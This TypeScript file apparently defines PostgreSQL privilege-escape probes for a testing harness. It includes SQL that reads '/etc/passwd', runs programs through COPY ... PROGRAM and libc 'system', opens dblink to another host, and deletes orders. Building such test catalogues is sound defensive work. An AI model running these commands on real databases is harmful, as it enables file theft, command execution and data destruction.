import { family } from './plain-writes';
import type { Attack } from './types';

export const FILES_AND_OTHER_SERVERS = [
  ...family('files and other servers', 'look', [
    ['P12', 'read a file', "SELECT pg_read_file('postgresql.conf')"],
    ['P12b', 'read a file as bytes', "SELECT pg_read_binary_file('PG_VERSION')"],
    ['P12c', 'list a folder', "SELECT pg_ls_dir('.')"],
    ['P12d', 'list the logs', 'SELECT * FROM pg_ls_logdir()'],
    ['P12e', 'list the write-ahead log', 'SELECT * FROM pg_ls_waldir()'],
    ['P12f', 'whether a file exists', "SELECT pg_stat_file('/etc/passwd')"],
    ['P12g', 'the settings in files', 'SELECT * FROM pg_file_settings'],
    ['P13', 'import a file', "SELECT lo_import('/etc/passwd')"],
    ['P13b', 'copy a file in', "COPY legacy_imports (source) FROM '/etc/passwd'"],
  ]),
  ...family('files and other servers', 'escape', [
    ['P14', 'run a program with what is copied out', "COPY (SELECT 1) TO PROGRAM 'id'"],
    ['P14b', 'run a program for what is copied in', "COPY legacy_imports (source) FROM PROGRAM 'id'"],
    ['P14c', 'copy to a file', "COPY (SELECT 1) TO '/tmp/planted'"],
    ['P14d', 'export a large object to a file', "SELECT lo_export(24001, '/tmp/planted')"],
    ['P14e', 'a function in C', "CREATE FUNCTION planted() RETURNS int LANGUAGE c AS 'libc.so.6', 'system'"],
    ['P14f', 'a function of the server by its inner name', "CREATE FUNCTION public.planted(text) RETURNS text LANGUAGE internal AS 'pg_read_file_all'"],
    ['X1', 'send data to another server', "SELECT dblink_connect('host=192.0.2.1 dbname=x user=x password=x connect_timeout=1')", { absent: true }],
    ['X2', 'log in to this server as a stronger role whose password is known', "SELECT * FROM dblink('host=127.0.0.1 dbname=shop user=app_user password=known', 'DELETE FROM orders') AS t (x text)", { absent: true }],
    ['X5', 'a foreign server', 'CREATE SERVER planted FOREIGN DATA WRAPPER postgres_fdw', { absent: true }],
    ['X6', 'a logical replication slot, which fills the disk', "SELECT pg_create_logical_replication_slot('planted', 'pgoutput')"],
    ['X7', 'a physical replication slot', "SELECT pg_create_physical_replication_slot('planted', true)"],
    ['X8', 'a base backup', "SELECT pg_backup_start('planted')"],
    ['X9', 'export to S3', "SELECT aws_s3.query_export_to_s3('SELECT 1', 'bucket', 'key', 'region')", { absent: true }],
    ['X10', 'call a Lambda function', "SELECT aws_lambda.invoke('f', '{}')", { absent: true }],
    ['X11', 'schedule a job', "SELECT cron.schedule('* * * * *', 'DELETE FROM orders')", { absent: true }],
  ]),
];

/** Logs in somewhere, and counts as having achieved that once it is answered. */
function login(id: string, title: string, as: Parameters<Parameters<NonNullable<Attack['act']>>[0]['login']>[0], more: Partial<Attack> = {}): Attack {
  return {
    id, family: 'the way in', aim: 'escape', title, ...more,
    act: async (hand) => {
      await (await hand.login(as)).run('SELECT 1');
      return 'logged in';
    },
  };
}

export const THE_WAY_IN: readonly Attack[] = [
  ...family('the way in', 'write', [
    ['P15', 'another database of the server, and a large object in it', 'SELECT lo_create(0)', { database: 'postgres' }],
    ['P15b', 'the template of all future databases', 'SELECT lo_create(0)', { database: 'template1' }],
    ['P15c', 'a table in another database', 'CREATE TABLE public.planted (id int)', { database: 'postgres' }],
    ['P15d', 'a temporary table in another database', 'CREATE TEMP TABLE planted (id int)', { database: 'postgres', notIn: ['staging'] }],
  ]),
  // Where the network is switched off, or is not the subject, these say nothing.
  login('N7', 'the primary, with its own role and password', { server: 'primary' }, { notIn: ['primary', 'naive'] }),
  login('N8', 'the clone, with the role of the replica', { server: 'staging' }, { notIn: ['staging', 'primary', 'naive'] }),
  login('N9', 'the replica, with the role of the clone', { server: 'replica' }, { notIn: ['replica', 'primary', 'naive'] }),
  login('N10', 'the primary, as the application, with its own password', { server: 'primary', user: 'app_user' }, { notIn: ['primary', 'naive'] }),
  login('N2', 'as the superuser, with its own password', { user: 'rdsadmin' }),
  login('N3', 'as the application, with its own password', { user: 'app_user' }),
  login('N4', 'as the owner, with its own password', { user: 'app_owner' }),
  login('N5', 'as a role that does not exist', { user: 'root' }),
  login('N6', 'as one of the roles that PostgreSQL comes with', { user: 'pg_write_all_data' }),
  {
    id: 'E16', family: 'the way in', aim: 'escape', title: 'a replication connection, which reads everything',
    act: async (hand) => {
      await (await hand.login({ replication: 'database' })).run('IDENTIFY_SYSTEM');
      return 'a replication connection';
    },
  },
  {
    id: 'E16b', family: 'the way in', aim: 'escape', title: 'a replication connection to the whole server',
    act: async (hand) => {
      await (await hand.login({ replication: 'true' })).run('IDENTIFY_SYSTEM');
      return 'a replication connection';
    },
  },
];
